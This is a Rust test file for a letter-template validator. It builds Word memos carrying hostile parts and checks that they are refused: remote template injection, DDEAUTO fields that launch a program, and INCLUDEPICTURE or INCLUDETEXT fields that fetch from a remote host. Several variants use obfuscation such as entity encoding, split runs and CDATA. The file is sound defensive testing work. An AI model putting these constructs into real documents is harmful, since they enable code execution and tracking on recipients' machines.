//! Templates that would fetch or run something on the machine of whoever opens a letter do not come into force.

mod docx;

use app::letters::{LetterPress, TemplateKind};
use docx::{TYPES, document, paragraph, zip};
use jaladin_documents::WordPress;

/// A sound memo with one part more.
fn memo_with(part: &str, xml: &str) -> Vec<u8> {
    let body = document(&paragraph("{untuk}"));
    zip(&[("[Content_Types].xml", TYPES.as_bytes()), ("word/document.xml", body.as_bytes()), (part, xml.as_bytes())])
}

fn memo_related(kind: &str, target: &str, mode: &str) -> Vec<u8> {
    let types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    let relation = format!(r#"<Relationship Id="rId9" Type="{types}/{kind}" Target="{target}"{mode}/>"#);
    memo_with("word/_rels/document.xml.rels", &format!("<Relationships>{relation}</Relationships>"))
}

/// The ids of what is refused in a memo.
fn refused(docx: &[u8]) -> Vec<&'static str> {
    let faults = WordPress::new().check(docx, TemplateKind::Memo).err().unwrap_or_default();
    faults.into_iter().map(|fault| fault.id).collect()
}

const EXTERNAL: &str = r#" TargetMode="External""#;

#[test]
fn nothing_is_fetched_from_another_machine() {
    for (kind, target, mode) in [
        ("attachedTemplate", "http://192.0.2.7/kop.dotm", EXTERNAL),
        ("attachedTemplate", r"file:///\\192.0.2.7\bagian\kop.dotm", EXTERNAL),
        ("image", "https://192.0.2.7/dilihat.png", EXTERNAL),
        ("image", "&#104;ttps://192.0.2.7/dilihat.png", r#" TargetMode=" external ""#),
        ("oleObject", "file://192.0.2.7/x", EXTERNAL),
        ("frame", "ftp://192.0.2.7/x.htm", ""),
    ] {
        assert_eq!(refused(&memo_related(kind, target, mode)), ["outside_refused"], "{kind} {target}");
    }
    let relations = r#"<Relationships><Relationship Type="image" Target="http://192.0.2.7/x" TargetMode="External"/></Relationships>"#;
    assert_eq!(refused(&memo_with("word/_rels/document.xml.RELS", relations)), ["outside_refused"]);
}

#[test]
fn what_word_itself_writes_may_stay() {
    for (kind, target, mode) in [
        ("attachedTemplate", r"file:///C:\Templat\Surat%20Tugas.dotx", EXTERNAL),
        ("mailMergeSource", r"file:///D:\data%20pegawai.xlsx", EXTERNAL),
        ("hyperlink", "https://dinkes.example/", EXTERNAL),
        ("hyperlink", "mailto:dinkes@dinkes.example", EXTERNAL),
        ("image", "media/image1.png", ""),
        ("settings", "settings.xml", ""),
    ] {
        assert_eq!(refused(&memo_related(kind, target, mode)), [""; 0], "{kind} {target}");
    }
}

#[test]
fn other_documents_macros_and_controls_are_refused_wherever_they_lie() {
    for kind in ["aFChunk", "AFCHUNK", "subDocument", "vbaProject", "control"] {
        assert_eq!(refused(&memo_related(kind, "isi.bin", "")), ["active_refused"], "{kind}");
    }
}

#[test]
fn fields_that_start_programs_are_refused_however_they_are_split() {
    let field = |code: &str| format!(r#"<w:hdr><w:p><w:fldChar w:fldCharType="begin"/>{code}</w:p></w:hdr>"#);
    for code in [
        "<w:instrText> DDEAUTO c:\\\\windows\\\\x.exe</w:instrText>",
        "<w:instrText>D</w:instrText><w:r/><w:instrText>de x y</w:instrText>",
        "<w:instrText>&#68;DE x y</w:instrText>",
        "<w:instrText><![CDATA[DDE x y]]></w:instrText>",
        r#"<w:fldSimple w:instr=" DDEAUTO x y"/>"#,
    ] {
        assert_eq!(refused(&memo_with("word/header1.xml", &field(code))), ["active_refused"], "{code}");
    }
    for code in ["<w:instrText> PAGE </w:instrText>", r#"<w:fldSimple w:instr="NUMPAGES"/>"#, "<w:t>DDE x</w:t>"] {
        assert_eq!(refused(&memo_with("word/header1.xml", &field(code))), [""; 0], "{code}");
    }
}

#[test]
fn fields_that_fetch_from_elsewhere_are_refused() {
    let field = |code: &str| format!(r#"<w:hdr><w:p><w:fldChar w:fldCharType="begin"/>{code}</w:p></w:hdr>"#);
    for code in [
        r#"<w:instrText> INCLUDEPICTURE "http://192.0.2.7/dilihat.png" \d </w:instrText>"#,
        r#"<w:instrText>INCLUDE</w:instrText><w:r/><w:instrText>Picture "https:/</w:instrText><w:instrText>/a.example/x"</w:instrText>"#,
        r#"<w:instrText>INCLUDETEXT "\\\\192.0.2.7\\bagian\\isi.docx"</w:instrText>"#,
        r"<w:instrText>INCLUDETEXT //192.0.2.7/bagian/isi.docx</w:instrText>",
        r"<w:instrText>IMPORT &#104;ttp:&#47;/192.0.2.7/x.png</w:instrText>",
        r#"<w:fldSimple w:instr=" LINK Word.Document.12 &quot;file://192.0.2.7/x.docx&quot; \a"/>"#,
    ] {
        assert_eq!(refused(&memo_with("word/header1.xml", &field(code))), ["outside_refused"], "{code}");
    }
    for code in [
        r#"<w:instrText> INCLUDEPICTURE "kop.png" \d </w:instrText>"#,
        r#"<w:instrText> HYPERLINK "https://dinkes.example/" </w:instrText>"#,
        r#"<w:instrText> LINKED "https://dinkes.example/" </w:instrText>"#,
        r#"<w:t>INCLUDEPICTURE "http://192.0.2.7/x.png"</w:t>"#,
    ] {
        assert_eq!(refused(&memo_with("word/header1.xml", &field(code))), [""; 0], "{code}");
    }
}
